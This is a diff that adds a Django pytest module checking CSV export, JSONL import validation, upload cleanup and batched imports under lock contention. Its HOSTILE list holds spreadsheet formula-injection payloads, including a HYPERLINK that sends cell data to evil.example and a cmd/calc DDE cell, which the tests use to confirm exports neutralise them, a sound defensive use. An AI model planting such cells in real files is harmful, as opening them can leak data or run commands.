@@ -1,0 +1,575 @@
+"""Hostile CSV cells, hostile import files, abandoned uploads, and big imports next to writers
+(issue 10: items 10, 11 (imports), 14 and 15)."""
+
+import contextlib
+import copy
+import csv
+import io
+import json
+import os
+import re
+import sqlite3
+import threading
+import time
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from django.db import connection
+from django.urls import reverse
+
+from harambee.accounts.services import api_token_create
+from harambee.audit.models import AuditEntry
+from harambee.core.csvfile import safe_cell
+from harambee.postings import importing
+from harambee.postings.importing import postings_import
+from harambee.postings.models import ImportRun, Posting, PostingFacet, PostingTranslation
+from harambee.postings.selectors import PostingFilters, posting_facet_counts
+from harambee.postings.services import posting_create
+from harambee.postings.validation import parse_posting
+from harambee.registry.models import Member
+from harambee.registry.tests.factories import OrganisationFactory
+
+pytestmark = pytest.mark.django_db
+# Imports commit batch by batch, and a lock is only a lock between connections: these tests commit
+# for real (serialized_rollback: the flush afterwards must not lose the reference data).
+COMMITS = pytest.mark.django_db(transaction=True, serialized_rollback=True)
+ROOT = Path(__file__).resolve().parent.parent.parent
+
+# Cells a spreadsheet would run as formulas, and what the export must write instead.
+HOSTILE = [
+    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("   =1+1", "'   =1+1"),
+    ("\u00a0@SUM(A1)", "'\u00a0@SUM(A1)"),
+]
+HARMLESS = ["Data = evidence", "AI training (2026)", "التدريب على الذكاء الاصطناعي", "a-b", ""]
+
+
+def _offer(external_id: str, title: str, member: str = "unza", **extra) -> dict:
+    return {
+        "id": external_id, "kind": "offer", "member": member, "title": title, "language": "en",
+        "description": "Two weeks of training on machine learning for civil servants.", "modalities": ["training"],
+        "themes": ["skills"], **extra,
+    }  # fmt: skip
+
+
+def _publish(cast, external_id: str, title: str) -> Posting:
+    data = parse_posting(_offer(external_id, title))
+    return posting_create(actor=None, member=cast.member, data=data, status="published")
+
+
+def _publish_hostile(cast) -> dict[str, str]:
+    """Offers with the hostile titles (stored without their surrounding spaces); id -> title as exported."""
+    expected = {}
+    for n, (title, _w) in enumerate(HOSTILE):
+        posting = _publish(cast, f"O-H{n}", title)
+        expected[posting.external_id] = "'" + posting.title
+    return expected
+
+
+def _rows(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+# --- item 10: one CSV writer, formula cells neutralised ---------------------------------------
+
+
+@pytest.mark.parametrize(("value", "written"), [*HOSTILE, *((h, h) for h in HARMLESS)])
+def test_a_cell_that_could_run_as_a_formula_gets_a_quote(value, written):
+    assert safe_cell(value) == written
+
+
+def test_numbers_stay_numbers_and_none_is_empty():
+    from decimal import Decimal
+
+    assert [safe_cell(v) for v in (-5, 2.5, Decimal("-1.50"), None, True)] == [-5, 2.5, Decimal("-1.50"), "", "True"]
+
+
+def test_anonymous_csv_download_of_needs_and_offers_neutralises_hostile_titles(client, cast):
+    # given published offers with hostile titles
+    expected = _publish_hostile(cast)
+    _publish(cast, "O-OK", "AI training (2026)")
+    # when anybody downloads the list as CSV
+    response = client.get("/en/offers/export.csv")
+    body = b"".join(response.streaming_content).decode()
+    # then every hostile title starts with a quote, the harmless one is as written
+    titles = {row["id"]: row["title"] for row in _rows(body)}
+    assert titles == expected | {"O-OK": "AI training (2026)"}
+    assert response["Content-Disposition"] == 'attachment; filename="harambee-offers.csv"'
+
+
+@pytest.mark.parametrize("to_file", [True, False], ids=["file", "stdout"])
+def test_command_line_csv_export_of_postings_neutralises_hostile_titles(cast, tmp_path, to_file):
+    expected = _publish_hostile(cast)
+    out = io.StringIO()
+    if to_file:
+        call_command("export", "postings", "--format", "csv", "--out", str(tmp_path / "p.csv"), stdout=out)
+        text = (tmp_path / "p.csv").read_text(encoding="utf-8")
+    else:
+        call_command("export", "postings", "--format", "csv", stdout=out)
+        text = out.getvalue()
+    assert {row["id"]: row["title"] for row in _rows(text)} == expected
+
+
+def test_cooperations_csv_neutralises_hostile_titles_and_member_names(cast, tmp_path):
+    from harambee.cooperation.models import Cooperation, CooperationOrigin
+
+    # given cooperations whose titles and whose provider's name are hostile
+    provider = OrganisationFactory(code="evil", name="=cmd|' /C calc'!A0")
+    for title, _w in HOSTILE:
+        Cooperation.objects.create(
+            title=title, provider=provider, beneficiary=cast.member, origin=CooperationOrigin.DIRECT
+        )
+    # when they are exported
+    out = tmp_path / "cooperations.csv"
+    call_command("export", "cooperations", "--out", str(out), stdout=io.StringIO())
+    rows = _rows(out.read_bytes().decode("utf-8"))
+    # then titles and names are neutralised, the numbers are numbers
+    assert [row["title"] for row in rows] == [written for _t, written in HOSTILE]
+    assert {row["provider_name"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+    assert all(row["id"].isdigit() for row in rows)
+
+
+def test_every_csv_the_platform_writes_goes_through_the_one_writer():
+    # the old writers (csv.writer in the exporters) are gone: only harambee/core/csvfile.py writes CSV
+    writers = [
+        str(path.relative_to(ROOT))
+        for path in (ROOT / "harambee").rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
+    ]
+    assert writers == ["harambee/core/csvfile.py"]
+
+
+# --- item 11 (imports): invalid text gives a clear error naming the line ------------------------
+
+GOOD = json.dumps(_offer("O-GOOD", "Good offer"))
+INVALID_TEXT = [
+    # (raw second line, message)
+    (b'{"id": "O-S", "kind": "offer", "member": "unza", "title": "A \\ud800 title", "description": "x"}',
+     "lone surrogate"),
+    (b'{"id": "O-S", "kind": "offer", "member": "unza", "title": "t", "description": "x", '
+     b'"translations": [{"language": "fr", "title": "\\udfff", "description": "y"}]}', "lone surrogate"),
+    (b'{"id": "O-N", "kind": "offer", "member": "unza", "title": "t", "description": "a \\u0000 b"}',
+     "NUL character"),
+    (b'{"id": "O-N", "kind": "offer", "member": "unza", "title": "t\x00", "description": "x"}', "Not valid JSON"),
+    ("{\"id\": \"O-L\", \"title\": \"caf\u00e9\"}".encode("latin-1"), "Not UTF-8 text."),
+    ("{\"id\": \"O-U\"}".encode("utf-16"), "Not UTF-8 text."),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("line", "message"), INVALID_TEXT, ids=["surrogate", "surrogate-in-list", "nul-escape",
+                                                                  "nul-byte", "latin-1", "utf-16"])  # fmt: skip
+def test_invalid_text_in_an_import_is_a_problem_of_its_line(cast, tmp_path, line, message):
+    # given a file whose second line holds text that is not valid Unicode text
+    path = tmp_path / "postings.jsonl"
+    path.write_bytes(GOOD.encode() + b"\n" + line + b"\n")
+    # when the command line imports it
+    err = io.StringIO()
+    with pytest.raises(CommandError, match="nothing was written"):
+        call_command("import", "postings", str(path), stdout=io.StringIO(), stderr=err)
+    # then the problem names line 2, and nothing at all was written
+    assert err.getvalue().startswith("line 2: ") and message in err.getvalue(), err.getvalue()
+    assert Posting.all_objects.count() == 0 and not AuditEntry.objects.filter(content_type__model="posting").exists()
+
+
+def test_a_byte_order_mark_at_the_start_of_a_file_is_accepted(cast):
+    report = postings_import(lines=[b"\xef\xbb\xbf" + GOOD.encode() + b"\n"])
+    assert report.ok and report.written and list(Posting.objects.values_list("external_id", flat=True)) == ["O-GOOD"]
+
+
+def test_web_preview_of_a_lone_surrogate_names_the_line(client, cast, settings, tmp_path):
+    settings.DATA_DIR = tmp_path
+    client.force_login(cast.manager)
+    upload = SimpleUploadedFile("p.jsonl", GOOD.encode() + b"\n" + INVALID_TEXT[0][0] + b"\n")
+    response = client.post(reverse("postings:import"), {"member": "unza", "file": upload})
+    assert response.status_code == 200
+    assert "line 2: The line contains a lone surrogate" in response.content.decode()
+    assert Posting.all_objects.count() == 0 and list((tmp_path / "imports").iterdir()) == []
+
+
+# --- item 14: uploads of the web import never stay behind ----------------------------------------
+
+
+def _upload(client, text: str, member: str = "unza"):
+    upload = SimpleUploadedFile("p.jsonl", text.encode(), content_type="application/jsonl")
+    return client.post(reverse("postings:import"), {"member": member, "file": upload})
+
+
+def _files(tmp_path) -> list[Path]:
+    return sorted((tmp_path / "imports").glob("*"))
+
+
+@pytest.fixture
+def importer(client, cast, settings, tmp_path):
+    settings.DATA_DIR = tmp_path
+    client.force_login(cast.manager)
+    return client
+
+
+def test_a_preview_that_fails_removes_its_upload(importer, tmp_path, monkeypatch):
+    # given the import fails unexpectedly while checking the file
+    def broken(**kwargs):
+        list(kwargs["lines"])
+        raise RuntimeError("disk on fire")
+
+    monkeypatch.setattr("harambee.postings.views.postings_import", broken)
+    # when a file is uploaded
+    with pytest.raises(RuntimeError):
+        _upload(importer, GOOD + "\n")
+    # then its file is gone
+    assert _files(tmp_path) == []
+
+
+def test_a_preview_with_problems_removes_its_upload(importer, tmp_path):
+    response = _upload(importer, GOOD + "\n{broken\n")
+    assert "line 2: Not valid JSON" in response.content.decode()
+    assert _files(tmp_path) == []
+
+
+def test_a_second_upload_replaces_the_first(importer, tmp_path):
+    # given a checked upload waiting for confirmation
+    _upload(importer, GOOD + "\n")
+    (first,) = _files(tmp_path)
+    # when the same person uploads another file
+    response = _upload(importer, json.dumps(_offer("O-OTHER", "Other offer")) + "\n")
+    # then only the second one is kept, and it is the one the page offers to confirm
+    (second,) = _files(tmp_path)
+    assert first != second
+    assert f'value="{second.stem}"' in response.content.decode()
+
+
+def test_an_unconfirmed_upload_is_removed_by_housekeeping_after_an_hour(importer, tmp_path):
+    # given an upload checked 61 minutes ago and one checked just now by someone else
+    response = _upload(importer, GOOD + "\n")
+    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)
+    old = tmp_path / "imports" / f"{token}.jsonl"
+    past = time.time() - 61 * 60
+    os.utime(old, (past, past))
+    recent = tmp_path / "imports" / "recent-upload-of-another-session.jsonl"
+    recent.write_text(GOOD)
+    # when housekeeping runs
+    out = io.StringIO()
+    call_command("postings", "housekeeping", stdout=out)
+    # then the old upload is gone, the recent one kept
+    assert "1 unconfirmed uploads removed" in out.getvalue()
+    assert _files(tmp_path) == [recent]
+    # and confirming the removed one says it expired (no error page), writing nothing
+    response = importer.post(reverse("postings:import"), {"token": token}, follow=True)
+    assert "This import has expired; upload the file again." in response.content.decode()
+    assert Posting.objects.count() == 0
+
+
+def test_an_upload_expires_with_its_session_token(importer, tmp_path):
+    response = _upload(importer, GOOD + "\n")
+    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)
+    session = importer.session
+    session["posting_import"]["expires"] = time.time() - 1
+    session.save()
+    response = importer.post(reverse("postings:import"), {"token": token}, follow=True)
+    assert "This import has expired; upload the file again." in response.content.decode()
+    assert Posting.objects.count() == 0 and _files(tmp_path) == []
+
+
+def test_a_confirmed_import_removes_its_upload_even_when_it_fails(importer, tmp_path, monkeypatch):
+    response = _upload(importer, GOOD + "\n")
+    token = re.search(r'name="token" value="([^"]+)"', response.content.decode()).group(1)
+
+    def broken(**kwargs):
+        raise RuntimeError("disk on fire")
+
+    monkeypatch.setattr("harambee.postings.views.postings_import", broken)
+    with pytest.raises(RuntimeError):
+        importer.post(reverse("postings:import"), {"token": token})
+    assert _files(tmp_path) == []
+
+
+# --- item 15: a big import next to writers --------------------------------------------------------
+
+
+def _lines(count: int, *, start: int = 0, member: str = "unza") -> list[str]:
+    return [json.dumps(_offer(f"O-B{n}", f"Batch offer {n}", member=member)) for n in range(start, start + count)]
+
+
+def _public_offer_counts():
+    return posting_facet_counts(user=None, filters=PostingFilters(kind="offer"))["status"]
+
+
+def _write_elsewhere(title: str) -> str:
+    """Create a posting from another thread (its own database connection); "" or the error."""
+    outcome = {}
+
+    def write():
+        from django.db import connection as own
+
+        try:
+            member = Member.objects.get(code="unza")
+            data = parse_posting(_offer(f"O-W-{title}", title))
+            posting_create(actor=None, member=member, data=data, status="published")
+            outcome["seen"] = (Posting.objects.filter(external_id__startswith="O-B").count(), _public_offer_counts())
+        except Exception as error:  # noqa: BLE001 - reported to the test
+            outcome["error"] = repr(error)
+        finally:
+            own.close()
+
+    thread = threading.Thread(target=write)
+    thread.start()
+    thread.join(timeout=60)
+    return outcome
+
+
+@pytest.fixture
+def big_import(cast, monkeypatch):
+    """Batches of 2 postings; a hook that runs before the preparation of the third batch."""
+    monkeypatch.setattr(importing, "BATCH", 2)
+    hooks = {}
+    calls = {"n": 0}
+    real = importing.indexing.search_document
+
+    def counting(posting, *args, **kwargs):
+        calls["n"] += 1
+        if calls["n"] == 5 and "before_batch_3" in hooks:  # postings 1-4 are in batches 1 and 2
+            hooks.pop("before_batch_3")()
+        return real(posting, *args, **kwargs)
+
+    monkeypatch.setattr(importing.indexing, "search_document", counting)
+    return hooks
+
+
+@COMMITS
+def test_a_big_import_lets_others_write_between_batches_and_shows_nothing_until_it_ends(big_import, cast):
+    # given two published offers that the file updates, and four new offers in it
+    _publish(cast, "O-B0", "Old title 0")
+    _publish(cast, "O-B1", "Old title 1")
+    before = _public_offer_counts()
+    seen = {}
+    big_import["before_batch_3"] = lambda: seen.update(_write_elsewhere("meanwhile"))
+    # when it is imported in batches of two, and somebody writes while it runs
+    report = postings_import(lines=_lines(6))
+    # then the other write succeeded without waiting for the whole import
+    assert "error" not in seen, seen["error"]
+    # and saw none of the import: neither the new postings nor the new counts
+    assert seen["seen"] == (2, {**before, "published": before["published"] + 1})
+    # and the import then wrote everything
+    assert (report.written, report.created, report.updated) == (True, 4, 2)
+    assert Posting.objects.get(external_id="O-B1").title == "Batch offer 1"
+    assert Posting.objects.filter(external_id__startswith="O-B").count() == 6
+    assert Posting.all_objects.count() == Posting.objects.count() == 7
+    assert _public_offer_counts()["published"] == 7
+    assert ImportRun.objects.get().state == "applied"
+
+
+def _state_of_postings() -> list:
+    return sorted(
+        (p.external_id, p.title, p.description, p.status, p.themes, p.search_document,
+         sorted((t.language, t.title) for t in p.translations.all()),
+         sorted((f.facet, f.code, f.status) for f in p.facets.all()))
+        for p in Posting.all_objects.prefetch_related("translations", "facets")
+    )  # fmt: skip
+
+
+@COMMITS
+def test_a_failure_in_a_late_batch_leaves_the_database_as_it_was(big_import, cast, monkeypatch):
+    # given two published offers (one translated) that a six-line file updates
+    _publish(cast, "O-B0", "Old title 0")
+    posting_create(
+        actor=None, member=cast.member, status="published",
+        data=parse_posting(_offer("O-B1", "Old title 1", translations=[
+            {"language": "fr", "title": "Ancien titre", "description": "Formation."}])),
+    )  # fmt: skip
+    state = _state_of_postings()
+    # and the last batch (the updates) fails, after the batches of new postings were committed
+    real = importing._insert_postings
+    calls = {"n": 0}
+
+    def failing(postings):
+        calls["n"] += 1
+        if calls["n"] == 3:
+            raise RuntimeError("disk full")
+        return real(postings)
+
+    monkeypatch.setattr(importing, "_insert_postings", failing)
+    seen = {}
+    big_import["before_batch_3"] = lambda: seen.update(_write_elsewhere("meanwhile"))
+    # when the file is imported
+    with pytest.raises(RuntimeError, match="disk full"):
+        postings_import(lines=_lines(6, member="unza"))
+    # then others could write while it ran
+    assert "error" not in seen, seen["error"]
+    Posting.objects.get(external_id="O-W-meanwhile").delete()
+    # and the database is as before: no new posting, the updated ones as they were, no audit entry
+    assert _state_of_postings() == state
+    assert not AuditEntry.objects.filter(reason="Imported").exists()
+    assert ImportRun.objects.get().state == "rolled_back"
+
+
+@COMMITS
+def test_a_bad_line_at_the_end_writes_nothing_not_even_a_first_batch(cast, monkeypatch):
+    monkeypatch.setattr(importing, "BATCH", 2)
+    report = postings_import(lines=[*_lines(5), '{"id": "O-BAD", "kind": "offer"}'])
+    assert not report.ok and report.problems[0].line == 6
+    assert Posting.all_objects.count() == 0 and ImportRun.objects.count() == 0
+    assert not AuditEntry.objects.filter(content_type__model="posting").exists()
+
+
+@COMMITS
+def test_a_killed_import_is_rolled_back_by_housekeeping(big_import, cast, monkeypatch):
+    # given an import (creating a member) whose process dies after two batches, before cleaning up
+    _publish(cast, "O-B0", "Old title 0")
+    state = _state_of_postings()
+    members = set(Member.objects.values_list("code", flat=True))
+    monkeypatch.setattr(importing, "_roll_back", lambda run_id, error="": False)  # the dead do not clean up
+
+    def die():
+        raise KeyboardInterrupt  # as good as kill -9 here: nothing after it runs
+
+    big_import["before_batch_3"] = die
+    lines = [*_lines(5, start=1), json.dumps(_offer("O-NEW-MEMBER", "New member's offer", member="neworg"))]
+    with pytest.raises(KeyboardInterrupt):
+        postings_import(lines=lines, create_missing_members=True)
+    monkeypatch.undo()
+    # then its rows stay hidden meanwhile
+    assert Posting.all_objects.count() > Posting.objects.count() == 1
+    assert ImportRun.objects.get().state == "running"
+    # when housekeeping runs
+    out = io.StringIO()
+    call_command("postings", "housekeeping", stdout=out)
+    # then the run is rolled back: its rows and the member it created are gone
+    assert "1 interrupted imports rolled back" in out.getvalue()
+    assert _state_of_postings() == state
+    assert set(Member.objects.values_list("code", flat=True)) == members
+    assert ImportRun.objects.get().state == "rolled_back"
+    # and the same file imports cleanly afterwards
+    report = postings_import(lines=lines, create_missing_members=True)
+    assert report.written and report.created == 6
+
+
+def test_a_re_import_updates_content_translations_facets_and_search_at_once(cast):
+    from harambee.postings.selectors import posting_search
+
+    # given a published offer in English (the author chose the language) with a French translation
+    posting_create(
+        actor=None, member=cast.member, status="published",
+        data=parse_posting(_offer("O-U", "Machine learning course", translations=[
+            {"language": "fr", "title": "Cours d'apprentissage", "description": "Formation."}])),
+    )  # fmt: skip
+    # when a file changes its title, themes and translation, and leaves the language to detection
+    changed = _offer(
+        "O-U", "Data governance course", themes=["data"],
+        translations=[{"language": "es", "title": "Curso de gobernanza", "description": "Formación."}],
+    )  # fmt: skip
+    del changed["language"]
+    report = postings_import(lines=[json.dumps(changed)])
+    # then the live posting has the new content everywhere, and one audit entry says what changed
+    assert (report.created, report.updated) == (0, 1)
+    posting = Posting.objects.get(external_id="O-U")
+    assert (posting.title, posting.themes, posting.status) == ("Data governance course", ["data"], "published")
+    assert (posting.language, posting.language_detected) == ("en", True)
+    assert list(PostingTranslation.objects.filter(posting=posting).values_list("language", "title")) == [
+        ("es", "Curso de gobernanza")
+    ]
+    assert set(PostingFacet.objects.filter(posting=posting, facet="theme").values_list("code", "status")) == {
+        ("data", "published")
+    }
+
+    def search(q):
+        return [p.external_id for p in posting_search(user=None, filters=PostingFilters(kind="offer", q=q))]
+
+    assert (search("governance"), search("gobernanza"), search("apprentissage")) == (["O-U"], ["O-U"], [])
+    assert Posting.all_objects.count() == 1
+    entry = AuditEntry.objects.filter(object_id=str(posting.pk), action="update").get()
+    assert entry.changes["title"] == ["Machine learning course", "Data governance course"]
+    assert entry.changes["translations"] == [["fr"], ["es"]]
+
+
+# --- item 15: a write that cannot get the lock answers 503 -------------------------------------------
+
+
+@contextlib.contextmanager
+def write_lock_held_elsewhere():
+    """Another connection holds the write lock; ours waits for it only briefly."""
+    if connection.vendor == "sqlite":
+        # the test database lives in memory; locks behave as in production in a file copy of it
+        connection.ensure_connection()
+        memory, saved = connection.connection, copy.deepcopy(connection.settings_dict)
+        path = Path(os.environ.get("TMPDIR", "/tmp")) / f"harambee-lock-{os.getpid()}.sqlite3"
+        path.unlink(missing_ok=True)
+        target = sqlite3.connect(path)
+        memory.backup(target)
+        target.close()
+        connection.connection = None
+        connection.settings_dict["NAME"] = str(path)
+        connection.settings_dict["OPTIONS"] = {**saved["OPTIONS"], "timeout": 0.2}
+        other = sqlite3.connect(path, isolation_level=None)
+        other.execute("PRAGMA journal_mode=WAL")
+        other.execute("BEGIN IMMEDIATE")
+        try:
+            yield
+        finally:
+            other.rollback()
+            other.close()
+            connection.close()
+            connection.settings_dict.clear()
+            connection.settings_dict.update(saved)
+            connection.connection = memory
+            path.unlink(missing_ok=True)
+    else:
+        import psycopg
+
+        settings = connection.settings_dict
+        other = psycopg.connect(
+            dbname=settings["NAME"], user=settings["USER"], password=settings["PASSWORD"] or None,
+            host=settings["HOST"], port=settings["PORT"] or None,
+        )  # fmt: skip
+        other.execute("LOCK TABLE accounts_apitoken, postings_posting, audit_auditentry IN EXCLUSIVE MODE")
+        with connection.cursor() as cursor:
+            cursor.execute("SET lock_timeout = '200ms'")
+        try:
+            yield
+        finally:
+            other.rollback()
+            other.close()
+            with connection.cursor() as cursor:
+                cursor.execute("SET lock_timeout = 0")
+
+
+@COMMITS
+def test_a_web_write_that_cannot_get_the_lock_answers_503_with_retry_after(client, cast):
+    client.force_login(cast.editor)
+    form = {"member": "unza", "title": "A need", "description": "Training.", "language": "en"}
+    with write_lock_held_elsewhere():
+        response = client.post(reverse("postings:new", args=["needs"]), form)
+    assert response.status_code == 503 and response["Retry-After"] == "5"
+    assert "Nothing was saved" in response.content.decode()
+    assert Posting.objects.count() == 0
+
+
+@COMMITS
+def test_an_api_write_that_cannot_get_the_lock_answers_503_json_with_retry_after(client, cast):
+    key = api_token_create(user=cast.editor, name="script").key
+    body = {"member": "unza", "title": "A need", "description": "Training.", "language": "en"}
+    with write_lock_held_elsewhere():
+        response = client.post(
+            "/api/v1/needs", json.dumps(body), content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}"
+        )
+    assert response.status_code == 503 and response["Retry-After"] == "5"
+    assert response.json() == {
+        "detail": "The database is busy with other changes; nothing was saved. Try again shortly."
+    }
+    assert Posting.objects.count() == 0
+
+
+def test_other_database_errors_are_not_taken_for_a_busy_database(rf):
+    from django.db import OperationalError
+
+    from harambee.core.dbbusy import busy_response
+
+    assert busy_response(rf.post("/api/v1/needs"), OperationalError("no such table: x")) is None
+    assert busy_response(rf.post("/api/v1/needs"), ValueError("database is locked")) is None
+    assert busy_response(rf.post("/api/v1/needs"), OperationalError("database is locked")).status_code == 503
